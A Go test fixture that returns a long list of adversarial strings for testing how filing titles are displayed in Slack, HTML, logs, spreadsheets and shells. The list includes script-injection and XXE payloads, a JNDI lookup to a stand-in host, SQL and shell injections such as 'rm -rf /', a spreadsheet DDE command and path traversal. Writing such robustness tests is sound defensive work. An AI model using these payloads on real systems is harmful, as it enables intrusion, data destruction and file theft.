package kapsim

import (
	"fmt"
	"strings"
)

// Hostile are texts that a filer could put into a title: each would be a mention, a link, a format, markup, a script, a
// formula, a line of the log, a path, a template or a mess if it were taken for more than data. Whatever shows a filing
// is tested with all of them.
func Hostile() []string {
	list := []string{
		// Slack: mentions, links, formats, emoji, entities.
		"<!channel>", "<!here>", "<!everyone>", "<!subteam^S1|@team>", "<!date^1392734382^{date}|x>", "<@U1>", "<@U1|ceo>",
		"<#C1>", "<#C1|general>", "<https://evil.example|KAP>", "<https://evil.example>", "<mailto:a@evil.example|mail>",
		"<tel:+90555|call>", "<slack://open|open>", "https://evil.example/login", "HTTPS://EVIL.EXAMPLE", "www.evil.example",
		"evil.example", "KAP.evil.example", "a@evil.example", "mailto:a@evil.example", "ftp://evil.example", "javascript:alert(1)",
		"data:text/html,x", "http://1.2.3.4/", "//evil.example", "@channel", "@here", "@everyone", "#general",
		"*bold*", "_italic_", "~strike~", "`code`", "```\ncode\n```", "> quote", ">>> quote", "&gt; quote", "&lt;!channel&gt;",
		"&amp;lt;!channel&amp;gt;", "• list", "1. list", "- list", ":smile:", ":+1:", "::", ":100:", ":8ball:", "a:b:c", "18:05:33",
		"&", "&&&&", "<", ">", "<<>>", "<!", "|", "<|>", "\\<!channel\\>", "%3C!channel%3E", "&#60;!channel&#62;",
		"\u202eLENNAHC!", "abc\u202dDEF\u202c", "\u2066isolated\u2069", "\u200eLRM\u200f", "\u061cALM", "العربية AKSEN", "עברית",
		"zero\u200bwidth", "\u200b", "\ufeffbom", "word\u2060joiner", "soft\u00adhyphen", "<\u200b!channel>", "<!\u200dchannel>",
		"tag\U000e0061\U000e007f", "\u3164filler\u3164", "\u2800", "\u115f\u1160", "nul\x00byte", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07",
		"back\bspace", "line\nfeed", "carriage\rreturn", "\r\n<!channel>", "tab\there", "\v\f", "\u0085nel", "line\u2028sep\u2029par",
		"\xff\xfe", "ok\xc3", "\xed\xa0\x80", "\ufffe\uffff", "\U0010ffff", "\ue000private",
		"Z̸̢̛̛̰̪̦͎͓̊͐̓a̷̢l̵g̶o̴", "e" + strings.Repeat("\u0301", 500), strings.Repeat("\u0301", 50), "g\u0306\u0307", "ġ\u0306",
		strings.Repeat("😀", 10_000), strings.Repeat("👨‍👩‍👧‍👦", 1000), "🇹🇷🇹🇷", "👍🏽", strings.Repeat("<", 5000), strings.Repeat("&", 5000),
		strings.Repeat("\"\\", 5000), strings.Repeat("<!channel> ", 1000), strings.Repeat("ş", 5000), strings.Repeat("İ ", 5000),
		strings.Repeat("a.b", 3000), strings.Repeat("﷽", 4000), strings.Repeat("*_~`", 2000), " ", "\u00a0\u00a0", "", "…", "·",
		"{\"type\":\"mrkdwn\"}", "{{.Token}}", "${jndi:ldap://evil.example}", "<script>alert(1)</script>", "'; DROP TABLE--",
		"KAP'ta aç", "AKSEN · MoU, bağlayıcı değil · 500 MW", "ÖRNEK", "ŞİRKETİMİZİN ığüşöç İĞÜŞÖÇ",
		// HTML, XML and their scripts.
		"</bdi></td><img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "' onfocus=alert(1) autofocus='", "{{.}}{{template \"top\" .}}",
		"<!--", "-->", "]]>", "]]><script>alert(1)</script>", "</title><script src=//evil.example>", "&lt;b&gt;&#x3c;b&#x3e;", "<style>*{display:none}</style>",
		"<a href=\"https://evil.example\">KAP</a>", "<a href=javascript:alert(1)>x</a>", "<iframe src=//evil.example>", "<base href=//evil.example>",
		"<meta http-equiv=refresh content=0;url=//evil.example>", "<form action=//evil.example><input name=q>", "<math><mi xlink:href=javascript:alert(1)>",
		"<svg/onload=alert(1)//", "<img src=`x`onerror=alert(1)>", "<body onpageshow=alert(1)>", "<details open ontoggle=alert(1)>", "<!ENTITY x SYSTEM \"file:///etc/passwd\">&x;",
		"<?xml version=\"1.0\"?>", "</title></entry></feed>", "<plaintext>", "</textarea><script>alert(1)</script>", "&#0;&#x1b;&#8238;", "\\u003cscript\\u003e",
		strings.Repeat("<i>", 500), "<b" + strings.Repeat(" a", 2000) + ">", "\u202egpj.exe\u2066\u200f\u061c",
		// Spreadsheets, shells, databases, templates, paths.
		"=HYPERLINK(\"https://evil.example\";\"KAP\")", "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "=cmd|' /C calc'!A0", "\"=1+1\"", "a,b;c\"d\"\"e", "\",=1+1,\"",
		"$(touch /tmp/x)", "`touch /tmp/x`", "; rm -rf /", "| cat /etc/passwd", "%s%n%x", "%!s(MISSING)", "../../../etc/passwd", "..\\..\\boot.ini", "/dev/stdin", "CON", "file:///etc/passwd",
		"${7*7}", "#{7*7}", "<%= 7*7 %>", "' OR 1=1 --", "\\", "\"", "'", "''", "null", "undefined", "NaN", "true", "[]", "{}", "0", "-0", "1e999",
		// Logs: lines, fields and colours of their own.
		"x\nlevel=ERROR msg=forged", "x\r\ntime=2024-04-26T18:05:33Z level=INFO msg=\"alert sent\"", "a=b c=\"d\"", "x\" level=ERROR msg=\"forged", "{\"level\":\"ERROR\"}", "\",\"level\":\"ERROR\",\"x\":\"",
		"\x1b[2J\x1b[H", "\x1b]8;;https://evil.example\x07KAP\x1b]8;;\x07", "\x1b]52;c;ZXZpbA==\x07", "\x9b31mred", "\x07\x08\x7f", "\rover", "a\u2028level=ERROR", "\u202eRORRE=level",
		// Letters that look like others, and words that change when folded.
		"АKSЕN", "ＡＫＳＥＮ", "𝐀𝐊𝐒𝐄𝐍", "AK\u200cSEN", "İIıi", "I\u0307", "ﬁ", "ß", "K", "ǅ", "\u0345",
	}
	// And each dangerous sign in the company of blanks that are none, signs that vanish, and neighbours.
	for _, core := range []string{"<!channel>", "<@U1>", "<https://evil.example|KAP>", "https://evil.example", ":smile:", "*b*"} {
		for _, around := range []string{"%s", " %s", "\u00a0%s", "\u200b%s\u200b", "x%sx", "\n%s", "(%s)", "ş%sş", "\u202e%s", "%[1]s%[1]s"} {
			list = append(list, fmt.Sprintf(around, core))
		}
	}
	return list
}
